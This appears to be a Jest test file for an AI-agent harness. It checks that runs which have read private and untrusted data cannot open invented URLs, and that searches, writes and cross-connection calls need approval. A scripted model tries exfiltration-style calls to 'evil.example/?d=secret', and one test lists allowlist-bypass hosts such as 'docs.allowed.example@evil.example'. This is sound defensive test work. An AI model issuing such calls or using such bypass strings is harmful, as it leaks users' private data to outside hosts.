import { randomUUID } from 'node:crypto';
import { describe, expect, test } from '@jest/globals';
import { z } from 'zod';
import type { RunLabel } from '@/lib/core/runs/run-labels';
import { defineTool, type Tool } from '@/lib/core/tools/tool';
import { runHistory } from '@/lib/services/runs/run-history';
import type { Database } from '@/lib/stores/database/open-database';
import { createStores } from '@/lib/stores/stores';
import { withDatabase } from '../fakes/engine-database';
import { type Answer, answer, brief, closeHarnesses, createHarness, dataOf, newRun, readAll } from '../fakes/play';
import { type Asked, type Reply, scriptedModel } from '../fakes/scripted-model';

let database: Database;
let userId: string;

withDatabase((opened) => {
  ({ database, userId } = opened);
});

const reader = (name: string, labels: RunLabel[]): Tool =>
  defineTool({ name, description: name, access: 'read', labels, input: z.strictObject({}), run: async () => ({ read: name }) });

/** A harness whose agents can also read data of every label, open addresses and search. */
async function table(play: (asked: Asked) => Reply, changes: Parameters<typeof createHarness>[3] = {}) {
  const opened: string[] = [];
  const redirectHosts: unknown[] = [];
  const own: Tool[] = [
    reader('readPrivate', ['private']),
    reader('readStrange', ['untrusted']),
    reader('readBoth', ['private', 'untrusted']),
    defineTool({
      name: 'open',
      description: 'Opens a page',
      access: 'read',
      opens: 'url',
      input: z.strictObject({ url: z.string() }),
      async run({ url }, context) {
        opened.push(url);
        redirectHosts.push(context.redirectHosts);
        return { page: url };
      },
    }),
    defineTool({
      name: 'search',
      description: 'Searches',
      access: 'read',
      labels: ['untrusted'],
      confirm: 'when-tainted',
      input: z.strictObject({ query: z.string().optional() }),
      urls: () => ['https://found.example/a?b=c'],
      run: async () => ({ results: 1 }),
    }),
  ];
  for (const name of ['wiki', 'shop'])
    own.push(
      defineTool({
        name: `${name}__look`,
        description: 'Looks',
        access: 'read',
        input: z.strictObject({}),
        labels: ['private', 'untrusted'],
        confirm: 'when-tainted-elsewhere',
        server: name,
        origin: { kind: 'mcp', id: name, title: name, agents: null },
        run: async () => ({ looked: name }),
      }),
    );
  const { model, calls } = scriptedModel(play);
  return { ...(await createHarness(database, userId, model, { more: own, ...changes })), opened, redirectHosts, calls };
}

const solo = (question = 'What does it all mean?') => ({ ...newRun(userId, { rounds: 0 }), question });
const open = (url: string) => ({ name: 'open', args: { url } });
/** Makes these calls, one per step, and then answers with their results. */
const steps =
  (...calls: { name: string; args: unknown; id?: string }[]) =>
  ({ results }: Asked): Reply => {
    const call = calls[results.length];
    return call ? { calls: [call] } : { text: results.join(' ') };
  };
const call = (name: string) => ({ name, args: {} });

describe('a reading tool of a connection', () => {
  /** Calls these tools in a run, and denies the call with the id `denied`. Returns the tools whose calls it asked to approve. */
  async function askedFor(names: string[], denied?: string) {
    const t = await table(steps(...names.map((name, n) => ({ ...call(name), id: `c${n}` }))));
    const run = await t.engine.start(solo());
    if (denied) await answer(t, run, `ada.${denied}`, { kind: 'approval', decision: 'deny' });
    const requests = dataOf(await readAll(t, run), 'signal_request');
    await closeHarnesses();
    return requests.map(({ name, sends }) => [name, sends]);
  }

  test('is called without asking while all labelled data comes from its own server', async () => {
    expect(await askedFor(['wiki__look', 'wiki__look', 'wiki__look'])).toEqual([]);
  });

  test('asks once data that was read elsewhere could be carried to its server', async () => {
    expect(await askedFor(['wiki__look', 'shop__look'], 'c1')).toEqual([['shop__look', true]]);
    expect(await askedFor(['readPrivate', 'wiki__look', 'wiki__look'], 'c2')).toEqual([['wiki__look', true]]);
  });
});

describe('the labels of a run', () => {
  test('are logged once each, with the agent and the tool that first read such data', async () => {
    const t = await table(steps(call('readPrivate'), call('readPrivate'), call('readBoth')));
    const run = await t.engine.start(solo());
    expect(dataOf(await readAll(t, run), 'run_label')).toEqual([
      { label: 'private', agent: 'ada', turnId: 'ada', tool: 'readPrivate' },
      { label: 'untrusted', agent: 'ada', turnId: 'ada', tool: 'readBoth' },
    ]);
  });

  test('do not permit an address that only the record of a program’s call contains', async () => {
    const t = await table(steps(open('https://result.example/?d=1'), open('https://typed.example/before')), {
      history: async () => ({
        messages: [
          { role: 'user', content: 'Read https://typed.example/before' },
          {
            role: 'user',
            content: '<earlier_call><result>See https://result.example/?d=1</result></earlier_call>',
            isCall: true,
          },
        ],
        labels: ['private', 'untrusted'],
      }),
    });
    await readAll(t, await t.engine.start(solo()));
    expect(t.opened).toEqual(['https://typed.example/before']);
  });

  test('do not permit an address that only the name of an attached file contains, even one of an earlier question', async () => {
    const named = (n: number) => `https://named.example/?d=${n}`;
    const t = await table(steps(...[1, 2, 3].map((n) => open(named(n))), open('https://typed.example/')), {
      history: async () => ({
        messages: [
          { role: 'user', content: `What is in it?\n\n[Wiki: ${named(2)}]\n<from_the_person>Go on</from_the_person>` },
          { role: 'user', content: `And there?\n<image name="${named(3)}" note="left out: an earlier message"/>` },
        ],
        labels: ['private', 'untrusted'],
      }),
    });
    await readAll(t, await t.engine.start(solo(`Compare it with https://typed.example/\n\n[Wiki: ${named(1)}] [b.txt]`)));
    expect(t.opened).toEqual(['https://typed.example/']);
  });

  test('include those of the earlier conversation', async () => {
    const t = await table(steps(open('https://evil.example/?d=1'), open('https://typed.example/before')), {
      history: async () => ({
        messages: [
          { role: 'user', content: 'Read https://typed.example/before' },
          { role: 'assistant', content: 'Done. See https://evil.example/?d=1' },
        ],
        labels: ['private', 'untrusted'],
      }),
    });
    const run = await t.engine.start(solo());
    expect(dataOf(await readAll(t, run), 'run_label')).toEqual([{ label: 'private' }, { label: 'untrusted' }]);
    expect(t.opened).toEqual(['https://typed.example/before']);
  });
});

test('a run has the labels of every run whose answer is in its prompt, also of a run parallel to the last one', async () => {
  const stores = createStores(database.db);
  const choose = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
  const t = await table(
    (asked) => {
      if (asked.everything.includes('And now?')) return steps(open('https://evil.example/?d=1'))(asked);
      return steps(asked.everything.includes('Read the CRM') ? call('readBoth') : choose)(asked);
    },
    { history: (run) => runHistory(stores, run) },
  );
  const conversationId = randomUUID();
  const waiting = await t.engine.start({ ...solo('Wait for me'), conversationId });
  await readAll(t, await t.engine.start({ ...solo('Read the CRM'), conversationId }));
  await answer(t, waiting, 'ada.q', { kind: 'question', answer: 'Yes' });
  await readAll(t, waiting);
  const last = await t.engine.start({ ...solo('And now?'), conversationId });
  expect(dataOf(await readAll(t, last), 'run_label')).toEqual([{ label: 'private' }, { label: 'untrusted' }]);
  expect(t.opened).toEqual([]);
});

test('a follow-up asks about a tool of a connection only if its conversation has read more than that connection', async () => {
  const stores = createStores(database.db);
  const t = await table(
    (asked) => steps({ ...call(asked.everything.includes('the shop?') ? 'shop__look' : 'wiki__look'), id: 'c' })(asked),
    { history: (run) => runHistory(stores, run) },
  );
  const conversationId = randomUUID();
  const requestsOf = async (question: string, denied?: string) => {
    const run = await t.engine.start({ ...solo(question), conversationId });
    if (denied) await answer(t, run, denied, { kind: 'approval', decision: 'deny' });
    return dataOf(await readAll(t, run), 'signal_request').map(({ name }) => name);
  };
  expect(await requestsOf('What does the wiki say?')).toEqual([]);
  expect(await requestsOf('And then?')).toEqual([]);
  expect(await requestsOf('And the shop?', 'ada.c')).toEqual(['shop__look']);
});

describe('a run that has read private and untrusted data', () => {
  test('opens no address that a model made up, and gives the reason', async () => {
    const t = await table(steps(call('readBoth'), open('https://evil.example/?d=secret')));
    const run = await t.engine.start(solo());
    const events = await readAll(t, run);
    expect(t.opened).toEqual([]);
    const [, refused] = dataOf(events, 'agent_tool_result');
    expect(refused).toMatchObject({ name: 'open', error: expect.stringMatching(/private and untrusted data.*person typed/) });
    expect(dataOf(events, 'run_end')).toMatchObject([{ status: 'completed' }]);
  });

  test.each(['readPrivate', 'readStrange'])('is restricted, but a run that only called %s may open any address', async (name) => {
    const t = await table(steps(call(name), open('https://anywhere.example/?d=1')));
    const run = await t.engine.start(solo());
    await readAll(t, run);
    expect(t.opened).toEqual(['https://anywhere.example/?d=1']);
  });

  test('opens exactly the addresses that the person typed, a search returned or the operator allows', async () => {
    const right = [
      'https://typed.example/page',
      'https://found.example/a?b=c',
      'https://docs.allowed.example/x',
      'https://ok.example/?q=1',
    ];
    const wrong = [
      'https://typed.example/page?d=secret',
      'https://typed.example/other',
      'https://secret.typed.example/page',
      'https://found.example/a?b=secret',
      'https://allowed.example/',
      'https://evil.example/docs.allowed.example',
      'https://docs.allowed.example@evil.example/',
      'https://docs.allowed.example.evil.example/',
      'not an address',
    ];
    for (const address of [...right, ...wrong]) {
      const t = await table(steps(call('search'), call('readBoth'), open(address)), {
        allowedHosts: ['*.allowed.example', 'ok.example'],
      });
      const run = await t.engine.start(solo('Read https://typed.example/page.'));
      await readAll(t, run);
      expect([address, t.opened]).toEqual([address, right.includes(address) ? [address] : []]);
      await closeHarnesses();
    }
  });

  test('follows redirects anywhere from an address that the person typed, but only to allowed hosts from one that is merely on such a host', async () => {
    const allowedHosts = ['ok.example'];
    const addresses = ['https://typed.example/page', 'https://ok.example/?q=1'];
    const t = await table(steps(call('readBoth'), ...addresses.map(open)), { allowedHosts });
    await readAll(t, await t.engine.start(solo('Read https://typed.example/page.')));
    expect(t.redirectHosts).toEqual([undefined, allowedHosts]);
  });

  test('opens addresses that the person typed while it was running', async () => {
    const choose = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
    const t = await table(({ results, everything }) => {
      if (results.length === 0) return { calls: [call('readBoth'), choose] };
      if (!everything.includes('steered.example')) return { text: 'Nothing was said.' };
      return results.at(-1)?.includes('steered') ? { text: 'Done' } : { calls: [open('https://steered.example/')] };
    });
    const started = await t.engine.start(solo());
    await t.engine.signal(started, { key: 'steer.1', data: { kind: 'steer', text: 'Look at steered.example, too' } });
    await answer(t, started, 'ada.q', { kind: 'question', answer: 'Yes' });
    await readAll(t, started);
    expect(t.opened).toEqual(['https://steered.example/']);
  });

  test('is restricted for all of its agents', async () => {
    const t = await table(({ json, results, instructions, prompt }) => {
      if (json) return { text: brief };
      if (!instructions.includes('cleo')) return results.length === 0 ? { calls: [call('readBoth')] } : { text: 'I read it.' };
      // Cleo tries only in the second round, when the others have read the data.
      if (!prompt.includes('I read it.')) return { text: 'I wait.' };
      return results.length === 0 ? { calls: [open('https://evil.example/?d=1')] } : { text: 'I tried.' };
    });
    const run = await t.engine.start(newRun(userId, { rounds: 2 }));
    const events = await readAll(t, run);
    expect(dataOf(events, 'agent_tool_call').map(({ toolCall }) => toolCall.name)).toContain('open');
    expect(t.opened).toEqual([]);
  });

  test('is still restricted in its next attempt', async () => {
    const question = { name: 'choose', id: 'q', args: { question: 'Go on?' } };
    const play = steps(call('readBoth'), question, open('https://evil.example/?d=1'), open('https://typed.example/'));
    const first = await table(play);
    const run = await first.engine.start(solo('Compare it with https://typed.example/'));
    for (;;) {
      if ((await first.stores.runs.get(userId, run.id))?.status === 'waiting') break;
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    await closeHarnesses();
    const second = await table(play);
    await answer(second, run, 'ada.q', { kind: 'question', answer: 'Yes' });
    const events = await readAll(second, run);
    expect(second.opened).toEqual(['https://typed.example/']);
    expect(dataOf(events, 'run_label')).toHaveLength(2);
  });

  test('needs an approval for every search, and sends the query that the person has seen', async () => {
    const search = (id: string, query: string) => ({ name: 'search', id, args: { query } });
    const t = await table(steps(search('a', 'free'), call('readBoth'), search('b', 'secret'), search('c', 'secret')));
    const run = await t.engine.start(solo());
    await answer(t, run, 'ada.b', { kind: 'approval', decision: 'approve', always: true });
    await answer(t, run, 'ada.c', { kind: 'approval', decision: 'deny' });
    const events = await readAll(t, run);
    expect(dataOf(events, 'signal_request')).toMatchObject([
      { key: 'ada.b', kind: 'approval', sends: true, each: true, args: { query: 'secret' } },
      { key: 'ada.c', kind: 'approval', sends: true, each: true },
    ]);
    expect(dataOf(events, 'agent_tool_result').map(({ error }) => error === undefined)).toEqual([true, true, true, false]);
    // The agent has used all its steps.
    expect(dataOf(events, 'run_end')).toMatchObject([{ status: 'partial' }]);
  });

  test('needs an approval for every write, even after an approval of all calls', async () => {
    const letter = (id: string) => ({ name: 'send', id, args: { letter: id } });
    const always: Answer = { kind: 'approval', decision: 'approve', always: true };
    const t = await table(steps(letter('a'), letter('b'), call('readBoth'), letter('c')));
    const run = await t.engine.start(solo());
    await answer(t, run, 'ada.a', always);
    await answer(t, run, 'ada.c', { kind: 'approval', decision: 'deny' });
    const events = await readAll(t, run);
    expect(t.sent).toEqual(['a', 'b']);
    const asked = dataOf(events, 'signal_request').map(({ key, each = false }) => ({ key, each }));
    expect(asked).toEqual([
      { key: 'ada.a', each: false },
      { key: 'ada.c', each: true },
    ]);
  });
});
